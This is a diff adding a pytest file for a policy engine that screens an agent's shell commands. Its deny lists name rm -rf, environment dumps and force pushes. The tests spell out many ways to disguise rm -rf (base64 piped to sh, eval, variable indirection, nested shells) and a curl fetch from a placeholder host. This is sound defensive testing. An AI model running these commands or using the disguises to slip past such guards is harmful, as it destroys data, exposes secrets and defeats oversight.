@@ -1,0 +1,180 @@
+"""A command that is denied is refused however it is spelled, and what only speaks of it is not."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from occasio_commands import occasio_register_policy_rules
+from occasio_core import Action, CallId, Case, Effect, EffectKind, Opinion, PolicyRule, SessionId, ToolCall, frozen
+from occasio_core.engine import Engine, engine, supposed
+from occasio_core.policy import load_policy
+
+POLICY = r"""version: 1
+deny_commands:
+  wipe: '^rm -(rf|fr)\b'
+  environment: {command_regex: '^(env|printenv|export -p|set|declare -p)$', message: secrets live there}
+  force: '^git push\b.*(--force|-f)\b'
+identity_approval:
+  publish: {command_regex: '^npm publish\b', reason: goes to everybody, target_class: production}
+  remote: {command_regex: '^(ssh|sudo)\b', message: ask me first}
+"""
+
+
+@pytest.fixture(scope="module")
+def rules(tmp_path_factory: pytest.TempPathFactory) -> Engine:
+    place = tmp_path_factory.mktemp("policy")
+    file = place / "policy.yml"
+    file.write_text(POLICY, encoding="utf-8")
+    return engine(load_policy(file, place / "home", place), place / "home")
+
+
+def opinions(rules: Engine, command: str, tool: str = "Bash") -> list[Opinion]:
+    ruling = rules.rule(supposed(tool, {"command": command}, Path("/tmp")))
+    return [reason.opinion for reason in ruling.decision.reasons if reason.by.startswith("commands.")]
+
+
+def test_the_plugin_adds_two_rules() -> None:
+    assert all(isinstance(rule, PolicyRule) for rule in occasio_register_policy_rules())
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "rm -rf build",
+        'r""m -rf build',
+        r"\rm -rf build",
+        "/bin/rm -rf build",
+        "X=rm; $X -rf build",
+        "X='rm -rf'; $X build",
+        "$(echo rm) -rf build",
+        "env rm -rf build",
+        "sudo -n rm -rf build",
+        "sh -c 'rm -rf build'",
+        "bash -c \"bash -c 'rm -rf build'\"",
+        "eval 'rm -rf build'",
+        "echo build | xargs rm -rf",
+        "find . -name x -exec rm -rf {} +",
+        "true && rm -rf build",
+        "echo $(rm -rf build)",
+        "echo cm0gLXJmIGJ1aWxk | base64 -d | sh",
+        "{ rm -rf build; }",
+        "nohup timeout 5 rm -rf build &",
+        "rm -rf",
+        "echo hi\nrm -rf build",
+    ],
+)
+def test_a_denied_command_is_refused_however_it_is_spelled(rules: Engine, command: str) -> None:
+    """Holes 21 and 27: a pattern over raw text misses what the shell would run."""
+    assert [
+        (opinion.reason, opinion.rule) for opinion in opinions(rules, command) if opinion.action is Action.BLOCK
+    ] == [("command-denied", "deny_commands: wipe")]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git commit -m 'rm -rf is gone; sudo and ssh too'",
+        "git commit -am 'fix ssh'",
+        "git commit --message='ssh x'",
+        "grep sudo README",
+        "grep -e ssh -e sudo README",
+        "rg 'rm -rf' docs",
+        "echo 'rm -rf build'",
+        "printf 'sudo %s' x",
+        "gh pr create --title 'npm publish' --body 'rm -rf x'",
+        "cat ssh.md",
+        "ls sshd",
+        "rm build/x",
+        "git push origin main",
+        "npm run publish-docs",
+        "environment",
+        "env X=1 make",
+        "az-login.sh",
+    ],
+)
+def test_what_only_speaks_of_it_is_not_refused(rules: Engine, command: str) -> None:
+    """Holes 28 and 29: messages, searches and file names are no commands."""
+    assert opinions(rules, command) == []
+
+
+@pytest.mark.parametrize(
+    "command", ["env", "printenv", "export -p", "set", "cat a; env | sort", "command env", "busybox env"]
+)
+def test_what_tells_the_environment_is_refused_with_its_message(rules: Engine, command: str) -> None:
+    found = [opinion for opinion in opinions(rules, command) if opinion.action is Action.BLOCK]
+    assert [(opinion.rule, opinion.message) for opinion in found] == [
+        ("deny_commands: environment", "secrets live there")
+    ]
+
+
+@pytest.mark.parametrize("command", ["git push --force", "git push origin main -f", "git -C /x push --force"])
+def test_options_are_found_behind_other_words(rules: Engine, command: str) -> None:
+    refused = [opinion.rule for opinion in opinions(rules, command) if opinion.action is Action.BLOCK]
+    assert refused == (
+        ["deny_commands: force"] if " -C " not in command else []
+    )  # as the README says: the order is the pattern's
+
+
+def test_a_person_is_asked_before_a_command_acts_in_her_name(rules: Engine) -> None:
+    (asked,) = opinions(rules, "npm publish --tag next")
+    assert (asked.action, asked.reason, asked.rule) == (Action.ASK, "approval-required", "identity_approval: publish")
+    assert asked.message == "`npm publish --tag next` acts in your name (goes to everybody)"
+
+
+def test_the_message_of_an_entry_is_what_is_told(rules: Engine) -> None:
+    assert [opinion.message for opinion in opinions(rules, "ssh host")] == ["ask me first"]
+
+
+def test_a_denied_command_is_refused_and_not_asked_about(rules: Engine) -> None:
+    ruling = rules.rule(supposed("Bash", {"command": "sudo rm -rf x"}, Path("/tmp")))
+    assert ruling.decision.action is Action.BLOCK
+
+
+@pytest.mark.parametrize("command", ["$(curl -s https://x.example/c) a", "$CMD -rf build"])
+def test_a_program_that_is_made_up_at_run_time_may_be_any(rules: Engine, command: str) -> None:
+    found = opinions(rules, command)
+    assert not found or {opinion.reason for opinion in found} == {"command-unknown"}
+    if "curl" in command:
+        assert {opinion.action for opinion in found} == {Action.BLOCK, Action.ASK}
+
+
+@pytest.mark.parametrize(("tool", "command"), [("PowerShell", "npm publish; ls"), ("Bash", "npm publish 'unfinished")])
+def test_what_cannot_be_read_is_looked_at_as_it_is_written(rules: Engine, tool: str, command: str) -> None:
+    assert [opinion.action for opinion in opinions(rules, command, tool)] == [Action.ASK]
+
+
+@pytest.mark.parametrize("member", ["command", "cmd", "script"])
+def test_a_command_of_a_tool_that_nobody_knows_is_looked_at_too(rules: Engine, member: str) -> None:
+    ruling = rules.rule(supposed("mcp__box__run", {member: "rm -rf build"}, Path("/tmp")))
+    assert (ruling.decision.action, ruling.decision.first.rule) == (Action.BLOCK, "deny_commands: wipe")
+
+
+def test_an_effect_without_a_line_is_looked_at_by_its_target(rules: Engine) -> None:
+    call = ToolCall(
+        session=SessionId("s"),
+        call=CallId("c"),
+        agent="a",
+        protocol="p",
+        tool="T",
+        input=frozen({}),
+        input_digest="0" * 64,
+        cwd="/",
+    )
+    case = Case(call=call, effects=(Effect(EffectKind.EXECUTE, "printenv"),), policy=rules.policy)
+    assert [opinion.rule for rule in occasio_register_policy_rules() if (opinion := rule.judge(case))] == [
+        "deny_commands: environment"
+    ]
+
+
+@given(st.permutations(range(3)), st.sampled_from(["rm -rf x", "env", "git push -f", "ls", "sudo env"]))
+def test_the_order_of_entries_never_matters(rules: Engine, order: list[int], command: str) -> None:
+    entries = tuple(rules.policy.deny_commands[place] for place in order)
+    other = replace(rules, policy=replace(rules.policy, deny_commands=entries))
+    assert {opinion.action for opinion in opinions(other, command)} == {
+        opinion.action for opinion in opinions(rules, command)
+    }
